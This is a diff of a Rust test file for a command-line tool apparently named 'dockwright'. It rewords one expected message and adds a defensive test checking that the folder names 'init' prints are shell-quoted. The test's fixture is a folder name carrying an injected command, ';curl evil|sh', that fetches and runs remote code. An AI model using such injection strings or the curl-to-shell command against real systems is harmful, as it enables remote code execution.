@@ -103,7 +103,7 @@ fn init_says_why_a_folder_is_left_out() {
     let hint = "dockwright new NAME --source services/b --cmd";
     assert!(run.stdout.contains(hint), "{}", run.told());
     assert!(
-        run.stdout.contains("\nservices/a is left out: "),
+        run.stdout.contains("\nskipped services/a: "),
         "{}",
         run.told()
     );
@@ -167,4 +167,30 @@ fn init_writes_only_names_that_our_grammars_accept() {
         run.told()
     );
     assert_eq!(root.run(&["generate"]).status, 0);
+}
+
+#[test]
+fn what_init_prints_is_quoted_as_a_shell_takes_it() {
+    let root = Root::empty();
+    let folder = "services/x;curl evil|sh";
+    let text = "FROM python:3.12-slim\nWORKDIR /x\nCOPY . /app\nRUN frob --knob\nCMD [\"python\", \"a.py\"]\n";
+    root.write(&format!("{folder}/Dockerfile"), text);
+    root.write(&format!("{folder}/a.py"), "");
+    let run = root.run(&["init"]);
+    assert_eq!(run.status, 0, "{}", run.told());
+    for line in run
+        .stdout
+        .lines()
+        .filter(|line| line.contains("dockwright diff"))
+    {
+        assert!(
+            line.contains("'services/x;curl evil|sh/Dockerfile'"),
+            "{}",
+            run.told()
+        );
+    }
+    let is_live = |line: &str| {
+        line.starts_with("  dockwright") && line.contains(";curl") && !line.contains('\'')
+    };
+    assert!(!run.stdout.lines().any(is_live), "{}", run.told());
 }
